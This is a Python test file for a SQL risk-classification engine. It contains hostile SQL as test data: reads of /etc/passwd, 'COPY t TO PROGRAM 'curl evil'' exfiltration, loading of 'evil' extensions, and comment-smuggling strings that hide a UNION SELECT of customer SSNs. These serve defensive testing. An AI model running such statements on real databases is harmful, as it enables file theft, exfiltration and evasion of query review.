"""Every category, with the spellings people (and attackers) actually use."""

from __future__ import annotations

import pytest

from governance.engine import Category, Risk, analyze

R, W, D = Category.READ, Category.WRITE, Category.DDL
P, S, C = Category.PRIVILEGE, Category.SESSION, Category.CODE
F, A, T, U = Category.FILE, Category.ADMIN, Category.TRANSACTION, Category.UNKNOWN

PG, MY, LITE = "postgres", "mysql", "sqlite"

CASES: list[tuple[str, str, Category, Risk]] = [
    # reads
    (PG, "SELECT 1", R, Risk.LOW),
    (PG, "select * from Orders where id = 5", R, Risk.LOW),
    (PG, 'SELECT "Weird Col" FROM "Sales"."Orders"', R, Risk.LOW),
    (PG, "/* leading */ SELECT count(*) -- trailing", R, Risk.LOW),
    (PG, "SELECT 1 UNION ALL SELECT 2", R, Risk.LOW),
    (PG, "VALUES (1), (2)", R, Risk.LOW),
    (PG, "WITH x AS (SELECT 1 AS a) SELECT a FROM x", R, Risk.LOW),
    (PG, "SELECT $$; DROP TABLE x$$", R, Risk.LOW),
    (PG, "SELECT $tag$ ; DELETE FROM t $tag$", R, Risk.LOW),
    (PG, "SELECT 'a;b', ';' FROM t", R, Risk.LOW),
    (PG, "SELECT now(), coalesce(a, b), x::text, lower(s) FROM t", R, Risk.LOW),
    (PG, "SELECT j->>'a', date_trunc('day', ts), row_number() OVER () FROM t", R, Risk.LOW),
    (PG, "SELECT pg_catalog.now()", R, Risk.LOW),
    (PG, "SHOW search_path", R, Risk.LOW),
    (PG, "EXPLAIN SELECT * FROM t", R, Risk.LOW),
    (PG, "EXPLAIN DELETE FROM t", R, Risk.LOW),
    (PG, "EXPLAIN (ANALYZE false) DELETE FROM t", R, Risk.LOW),
    (PG, "COPY (SELECT * FROM t) TO STDOUT WITH CSV", R, Risk.LOW),
    (PG, "COPY t TO STDOUT", R, Risk.LOW),
    (MY, "SELECT NOW(), IFNULL(a, b) FROM t # hash comment", R, Risk.LOW),
    (MY, "SHOW TABLES", R, Risk.LOW),
    (MY, "DESCRIBE t", R, Risk.LOW),
    (MY, "EXPLAIN SELECT * FROM t", R, Risk.LOW),
    (LITE, "PRAGMA table_info(t)", R, Risk.LOW),
    # SQLite's pragma table-valued functions that only describe the schema
    (LITE, "SELECT name FROM pragma_table_info('orders')", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_table_xinfo('orders', 'main')", R, Risk.LOW),
    (LITE, "SELECT m.name, p.name FROM sqlite_master m, pragma_table_info(m.name) p", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_table_list", R, Risk.LOW),
    (LITE, "SELECT * FROM PRAGMA_INDEX_LIST('orders')", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_index_info('idx')", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_index_xinfo('idx')", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_foreign_key_list('orders')", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_database_list", R, Risk.LOW),
    (LITE, "SELECT * FROM pragma_collation_list()", R, Risk.LOW),
    (LITE, "SELECT name FROM pragma_function_list", R, Risk.LOW),
    (LITE, "SELECT name FROM pragma_module_list", R, Risk.LOW),
    (LITE, "SELECT name FROM pragma_pragma_list", R, Risk.LOW),
    (LITE, "EXPLAIN QUERY PLAN SELECT * FROM t WHERE id = 1", R, Risk.LOW),
    (LITE, "explain query plan select * from t", R, Risk.LOW),
    (LITE, "EXPLAIN SELECT * FROM t", R, Risk.LOW),
    (LITE, "SELECT ifnull(a, 1), strftime('%Y', d) FROM t", R, Risk.LOW),
    # writes
    (PG, "INSERT INTO t VALUES (1)", W, Risk.MEDIUM),
    (PG, "insert into t (a) select a from u", W, Risk.MEDIUM),
    (PG, "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1", W, Risk.MEDIUM),
    (PG, "UPDATE t SET a = 1 WHERE id = 5", W, Risk.MEDIUM),
    (PG, "DELETE FROM t WHERE id = 5", W, Risk.MEDIUM),
    (PG, "DELETE FROM t", W, Risk.CRITICAL),
    (PG, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", W, Risk.MEDIUM),
    (PG, "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", W, Risk.MEDIUM),
    (PG, "SELECT * INTO new_t FROM t", W, Risk.MEDIUM),
    (PG, "SELECT * FROM t FOR UPDATE", W, Risk.MEDIUM),
    (PG, "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", W, Risk.MEDIUM),
    (PG, "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", W, Risk.CRITICAL),
    (PG, "COPY t FROM STDIN", W, Risk.MEDIUM),
    (MY, "REPLACE INTO t VALUES (1)", W, Risk.MEDIUM),
    (MY, "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", W, Risk.MEDIUM),
    (MY, "SELECT * FROM t LOCK IN SHARE MODE", W, Risk.MEDIUM),
    (MY, "ANALYZE DELETE FROM t WHERE id = 1", W, Risk.MEDIUM),
    (MY, "ANALYZE FORMAT=JSON DELETE FROM t WHERE id = 1", W, Risk.MEDIUM),
    (LITE, "INSERT OR REPLACE INTO t VALUES (1)", W, Risk.MEDIUM),
    # ddl
    (PG, "CREATE TABLE t (a int)", D, Risk.HIGH),
    (PG, "CREATE TABLE t AS SELECT * FROM u", D, Risk.HIGH),
    (PG, "ALTER TABLE t ADD COLUMN b int", D, Risk.HIGH),
    (PG, "CREATE INDEX i ON t (a)", D, Risk.HIGH),
    (PG, "COMMENT ON TABLE t IS 'x'", D, Risk.HIGH),
    (PG, "DROP TABLE t", D, Risk.CRITICAL),
    (PG, "drop  view  IF EXISTS v", D, Risk.CRITICAL),
    (PG, "TRUNCATE t", D, Risk.CRITICAL),
    (MY, "RENAME TABLE a TO b", D, Risk.HIGH),
    # privilege
    (PG, "GRANT SELECT ON t TO bob", P, Risk.CRITICAL),
    (PG, "REVOKE SELECT ON t FROM bob", P, Risk.CRITICAL),
    (PG, "GRANT admin TO bob", P, Risk.CRITICAL),
    (PG, "CREATE ROLE bob", P, Risk.CRITICAL),
    (PG, "ALTER USER bob WITH PASSWORD 'x'", P, Risk.CRITICAL),
    (PG, "DROP ROLE bob", P, Risk.CRITICAL),
    (PG, "SET ROLE admin", P, Risk.CRITICAL),
    (PG, "SET LOCAL ROLE admin", P, Risk.CRITICAL),
    (PG, "SET SESSION AUTHORIZATION bob", P, Risk.CRITICAL),
    (PG, "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", P, Risk.CRITICAL),
    (MY, "CREATE USER bob", P, Risk.CRITICAL),
    (MY, "SET PASSWORD = 'x'", P, Risk.CRITICAL),
    # session
    (PG, "SET search_path = x", S, Risk.HIGH),
    (PG, "SET TIME ZONE 'UTC'", S, Risk.HIGH),
    (PG, "RESET ALL", S, Risk.HIGH),
    (PG, "SET TRANSACTION READ WRITE", S, Risk.HIGH),
    (PG, "SELECT set_config('a', 'b', false)", S, Risk.HIGH),
    (PG, "SELECT nextval('s')", S, Risk.HIGH),
    (PG, "SELECT pg_advisory_lock(1)", S, Risk.HIGH),
    (PG, "SELECT setseed(0.5)", S, Risk.HIGH),  # seeds the session's random() for the next use
    # A quoted name keeps its case in PostgreSQL: "COUNT"() is a function someone created.
    (PG, 'SELECT "COUNT"(1)', U, Risk.HIGH),
    (PG, """SELECT "Quote_Ident"('x')""", U, Risk.HIGH),
    (PG, 'SELECT pg_catalog."Lower"(name) FROM t', U, Risk.HIGH),
    (PG, 'SELECT "count"(1), "lower"(name) FROM t', R, Risk.LOW),
    (PG, 'SELECT "MyTable"."Col" FROM "MyTable"', R, Risk.LOW),
    (PG, 'WITH "X"(a) AS (SELECT 1) SELECT * FROM "X"', R, Risk.LOW),
    (PG, 'INSERT INTO "MyTable" (a, b) VALUES (1, 2)', W, Risk.MEDIUM),
    # MySQL calls a stored function named count for `count (1)`; lower (x) stays the built-in.
    (MY, "SELECT count (1) FROM t", U, Risk.HIGH),
    (MY, "SELECT SUM/**/(a) FROM t", U, Risk.HIGH),
    (MY, "SELECT COUNT(*), max(a), lower (b), TRIM(c), SUBSTRING(c, 1, 2) FROM t", R, Risk.LOW),
    # A quoted name is never the built-in either; nor are the names sqlglot parses specially.
    (MY, "SELECT `count`(a) FROM t", U, Risk.HIGH),
    (MY, "SELECT `MAX`(a) FROM t", U, Risk.HIGH),
    (MY, "SELECT `now`()", U, Risk.HIGH),
    (MY, "SELECT trim (b) FROM t", U, Risk.HIGH),
    (MY, "SELECT substr (b, 1, 2) FROM t", U, Risk.HIGH),
    (MY, "SELECT position ('a' IN b) FROM t", U, Risk.HIGH),
    (MY, "SELECT group_concat (b) FROM t", U, Risk.HIGH),
    (MY, "SELECT `group_concat`(b) FROM t", U, Risk.HIGH),
    (
        MY,
        "SELECT POSITION('a' IN c), GROUP_CONCAT(c), CAST(a AS CHAR), EXTRACT(YEAR FROM d),"
        " TRIM(BOTH 'x' FROM c), SUBSTR(c, 1, 2) FROM t",
        R,
        Risk.LOW,
    ),
    # the same words as names, not calls
    (MY, "SELECT `count`.a FROM `count`", R, Risk.LOW),
    (MY, "INSERT INTO count (a) VALUES (1)", W, Risk.MEDIUM),
    (MY, "SELECT * FROM (SELECT 1) AS max (a)", R, Risk.LOW),
    (PG, "LISTEN c", S, Risk.HIGH),
    (MY, "SET autocommit = 0", S, Risk.HIGH),
    (MY, "SET @a = 1", S, Risk.HIGH),
    (MY, "SELECT 1 INTO @x", S, Risk.HIGH),
    (MY, "USE other_db", S, Risk.HIGH),
    (LITE, "PRAGMA writable_schema = 1", S, Risk.HIGH),
    # code
    (PG, "DO $$ BEGIN DELETE FROM t; END $$", C, Risk.CRITICAL),
    (PG, "CALL proc(1)", C, Risk.CRITICAL),
    (PG, "PREPARE p AS SELECT 1", C, Risk.CRITICAL),
    (PG, "EXECUTE p", C, Risk.CRITICAL),
    (PG, "DEALLOCATE p", C, Risk.CRITICAL),
    (PG, "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", C, Risk.CRITICAL),
    (PG, "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$", C, Risk.CRITICAL),
    (PG, "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", C, Risk.CRITICAL),
    (PG, "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", C, Risk.CRITICAL),
    (PG, "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", C, Risk.CRITICAL),
    (PG, "SELECT query_to_xml('DELETE FROM t', true, true, '')", C, Risk.CRITICAL),
    (MY, "PREPARE s FROM 'DELETE FROM t'", C, Risk.CRITICAL),
    (MY, "DO SLEEP(1)", C, Risk.CRITICAL),
    (LITE, "SELECT load_extension('evil')", C, Risk.CRITICAL),
    # file
    (PG, "COPY t TO '/tmp/x'", F, Risk.CRITICAL),
    (PG, "COPY t FROM '/etc/passwd'", F, Risk.CRITICAL),
    (PG, "COPY t TO PROGRAM 'curl evil'", F, Risk.CRITICAL),
    (PG, "COPY t FROM PROGRAM 'id'", F, Risk.CRITICAL),
    (PG, "SELECT pg_read_file('/etc/passwd')", F, Risk.CRITICAL),
    (PG, "SELECT pg_catalog.pg_read_binary_file('x')", F, Risk.CRITICAL),
    (PG, "SELECT lo_import('/etc/passwd')", F, Risk.CRITICAL),
    (PG, "SELECT pg_ls_dir('.')", F, Risk.CRITICAL),
    (MY, "LOAD DATA LOCAL INFILE 'x' INTO TABLE t", F, Risk.CRITICAL),
    (MY, "SELECT * FROM t INTO OUTFILE '/tmp/x'", F, Risk.CRITICAL),
    (MY, "SELECT 1 INTO DUMPFILE '/tmp/x'", F, Risk.CRITICAL),
    (MY, "SELECT LOAD_FILE('/etc/passwd')", F, Risk.CRITICAL),
    (LITE, "ATTACH DATABASE '/tmp/x.db' AS x", F, Risk.CRITICAL),
    (LITE, "DETACH DATABASE x", F, Risk.CRITICAL),
    # admin
    (PG, "SELECT pg_terminate_backend(123)", A, Risk.CRITICAL),
    (PG, "SELECT pg_cancel_backend(123)", A, Risk.CRITICAL),
    (PG, "SELECT pg_sleep(10)", A, Risk.HIGH),
    (PG, "VACUUM t", A, Risk.HIGH),
    (PG, "VACUUM FULL t", A, Risk.CRITICAL),
    (PG, "VACUUM (FULL, ANALYZE) t", A, Risk.CRITICAL),
    (PG, "ANALYZE t", A, Risk.HIGH),
    (PG, "REINDEX TABLE t", A, Risk.HIGH),
    (PG, "CLUSTER t", A, Risk.HIGH),
    (PG, "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", A, Risk.HIGH),
    (PG, "CHECKPOINT", A, Risk.HIGH),
    (PG, "LOAD 'evil.so'", A, Risk.CRITICAL),
    (PG, "CREATE EXTENSION plpython3u", A, Risk.CRITICAL),
    (PG, "DROP EXTENSION foo", A, Risk.CRITICAL),
    (PG, "ALTER SYSTEM SET work_mem = '1GB'", A, Risk.CRITICAL),
    (MY, "KILL 5", A, Risk.CRITICAL),
    (MY, "LOCK TABLES t WRITE", A, Risk.HIGH),
    (MY, "SET GLOBAL max_connections = 5", A, Risk.CRITICAL),
    (MY, "SELECT SLEEP(5)", A, Risk.HIGH),
    (PG, "SELECT pg_read_file_old('pg_hba.conf', 0, 100)", F, Risk.CRITICAL),
    # PostgreSQL attribute notation calls a function: `(x).f` and `t.f` are f(x), f(t)
    (PG, "SELECT (0).pg_cancel_backend", A, Risk.CRITICAL),
    (PG, "SELECT ('/etc/hostname').pg_read_file", F, Risk.CRITICAL),
    # as pg_read_binary_file(pg_relation_filepath(…)) is: unknown, at the file call's risk
    (
        PG,
        "SELECT (('t'::regclass).pg_relation_filepath).pg_read_binary_file",
        Category.UNKNOWN,
        Risk.CRITICAL,
    ),
    (PG, "SELECT c.pg_terminate_backend FROM t c", A, Risk.CRITICAL),
    (PG, "SELECT t.pg_read_file FROM t", F, Risk.CRITICAL),
    (PG, "SELECT (s.q).ts_stat FROM t s", Category.UNKNOWN, Risk.HIGH),
    (PG, "SELECT (t.addr).my_function FROM t", Category.UNKNOWN, Risk.HIGH),
    (MY, "FLUSH PRIVILEGES", A, Risk.HIGH),
    # transaction
    (PG, "BEGIN", T, Risk.MEDIUM),
    (PG, "COMMIT", T, Risk.MEDIUM),
    (PG, "ROLLBACK", T, Risk.MEDIUM),
    (PG, "SAVEPOINT a", T, Risk.MEDIUM),
    (PG, "RELEASE SAVEPOINT a", T, Risk.MEDIUM),
    (PG, "ROLLBACK TO SAVEPOINT a", T, Risk.MEDIUM),
    (PG, "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", T, Risk.MEDIUM),
    (MY, "START TRANSACTION", T, Risk.MEDIUM),
    # unknown
    (PG, "SELECT my_func(1)", U, Risk.HIGH),
    (PG, "SELECT myschema.count(x) FROM t", U, Risk.HIGH),
    (PG, "UPDATE t SET a = my_func(a) WHERE id = 1", U, Risk.HIGH),
    (PG, "DECLARE c CURSOR FOR SELECT 1", U, Risk.HIGH),
    (PG, "1 + 1", U, Risk.HIGH),
    (PG, "EXPLAIN ANALYZE SELECT my_func()", U, Risk.HIGH),
    # pragma functions that read data or state, not the schema
    (LITE, "SELECT * FROM pragma_integrity_check", U, Risk.HIGH),
    (LITE, "SELECT * FROM pragma_quick_check()", U, Risk.HIGH),
    (LITE, "SELECT * FROM pragma_foreign_key_check('orders')", U, Risk.HIGH),
    (LITE, "SELECT * FROM PRAGMA_COMPILE_OPTIONS", U, Risk.HIGH),
    (LITE, "SELECT * FROM pragma_data_version", U, Risk.HIGH),
    (LITE, "SELECT pragma_page_count()", U, Risk.HIGH),
]


@pytest.mark.parametrize(("dialect", "sql", "category", "risk"), CASES)
def test_it_classifies(dialect: str, sql: str, category: Category, risk: Risk) -> None:
    analysis = analyze(sql, dialect)
    assert analysis.error is None, analysis.error
    assert len(analysis.statements) == 1
    statement = analysis.statements[0]
    assert (statement.category, statement.risk) == (category, risk), statement


@pytest.mark.parametrize(
    ("dialect", "sql", "flag"),
    [
        (PG, "DROP TABLE t", "drop"),
        (PG, "TRUNCATE t", "truncate"),
        (PG, "DELETE FROM t", "unfiltered_write"),
        (PG, "SELECT * INTO new_t FROM t", "select_into"),
        (PG, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "writable_cte"),
        (PG, "EXPLAIN ANALYZE DELETE FROM t", "explain_analyze"),
        (PG, "SELECT my_func()", "unknown_function"),
        (PG, "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "upsert"),
        (MY, "REPLACE INTO t VALUES (1)", "replace"),
        (PG, "SELECT * FROM t FOR SHARE", "locking_read"),
        (MY, "ANALYZE FORMAT=JSON SELECT * FROM t", "explain_analyze"),
        (MY, "ANALYZE format = json SELECT * FROM t", "explain_analyze"),
        (LITE, "EXPLAIN QUERY PLAN SELECT * FROM t", "explain"),
    ],
)
def test_it_flags(dialect: str, sql: str, flag: str) -> None:
    assert flag in analyze(sql, dialect).statements[0].flags


def test_plain_explain_does_not_carry_the_write_flags() -> None:
    statement = analyze("EXPLAIN DELETE FROM t", PG).statements[0]
    assert statement.flags == frozenset({"explain"})
    assert statement.written_tables == ()


def test_it_lists_tables_without_ctes() -> None:
    sql = (
        "WITH recent AS (SELECT * FROM public.orders) "
        'SELECT * FROM recent JOIN "Customers" c ON c.id = recent.cid'
    )
    statement = analyze(sql, PG).statements[0]
    assert set(statement.tables) == {"public.orders", "customers"}
    assert statement.written_tables == ()


def test_it_lists_written_tables() -> None:
    statement = analyze("INSERT INTO archive.orders SELECT * FROM orders", PG).statements[0]
    assert statement.written_tables == ("archive.orders",)
    assert set(statement.tables) == {"archive.orders", "orders"}


def test_it_lists_functions_lower_case() -> None:
    statement = analyze("SELECT COUNT(*), Pg_Sleep(1), My_Func() FROM t", PG).statements[0]
    assert set(statement.functions) == {"count", "pg_sleep", "my_func"}


@pytest.mark.parametrize(
    ("dialect", "sql", "expected"),
    [
        (PG, "DELETE FROM orders", "Deletes rows from orders with no WHERE clause"),
        (PG, "SELECT * FROM orders", "Reads orders."),
        (PG, "DROP TABLE orders", "Permanently removes orders"),
        (PG, "SELECT my_func()", "Calls my_func(), a function Warden does not know"),
        (PG, "UPDATE orders SET a = 1 WHERE id = 1", "Updates rows in orders."),
    ],
)
def test_it_explains_in_words(dialect: str, sql: str, expected: str) -> None:
    assert analyze(sql, dialect).statements[0].explanation.startswith(expected)


@pytest.mark.parametrize("dialect", ["mysql", "postgres", "sqlite"])
@pytest.mark.parametrize("space", ["\u00a0", "\u3000", "\u2028", "\u0085", "\u2009"])
def test_spaces_the_database_does_not_read_as_spaces_are_refused(dialect: str, space: str) -> None:
    """Eighth review: `--<U+00A0>` started a comment for sqlglot, not for MariaDB, which ran
    the `UNION SELECT ssn …` behind it. Outside strings and quoted names they are refused."""
    from governance.engine import analyze

    sql = f"SELECT t.a FROM t WHERE 1 = 1 --{space} UNION SELECT ssn FROM customers WHERE 1\n= 1"
    analysis = analyze(sql, dialect)
    assert analysis.error and f"U+{ord(space):04X}" in analysis.error
    # inside strings and quoted names they are only text
    quote = "`" if dialect == "mysql" else '"'
    assert not analyze(f"SELECT 'a{space}b' AS {quote}x{space}y{quote}", dialect).error
    # sqlglot matches ORDER<space>BY as one keyword across it; the server reads a name
    assert analyze(f"SELECT id FROM orders o ORDER{space}BY id", dialect).error
    # and other characters in comments are comments' text (shown escaped to approvers)
    assert not analyze("SELECT 1 /* \u202e \u2066 \x9b */", dialect).error


@pytest.mark.parametrize("dialect", ["mysql", "postgres", "sqlite"])
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1 /*/* */ , '*/ , ssn FROM customers --' AS x",
        "SELECT 1 /*/*/ , '*/*/ , full_name FROM customers --' AS x",
        "SELECT 1 /* a /*/* b */ */",
        "SELECT 1 /* a /* b */ c */",
    ],
)
def test_comments_inside_comments_are_refused(dialect: str, sql: str) -> None:
    """Ninth review: sqlglot and PostgreSQL ended `/*/* */` in different places, and the
    `, ssn FROM customers` sqlglot read inside a string ran."""
    from governance.engine import analyze

    assert "comment inside a comment" in (analyze(sql, dialect).error or "")


@pytest.mark.parametrize("dialect", ["mysql", "postgres", "sqlite"])
def test_plain_comments_and_slashes_in_strings_still_read(dialect: str) -> None:
    from governance.engine import analyze

    for sql in ("SELECT 1 /* a */ /* b */", "SELECT '/* x /*' AS s -- /* y\n", "SELECT 2 / 1"):
        assert not analyze(sql, dialect).error, sql
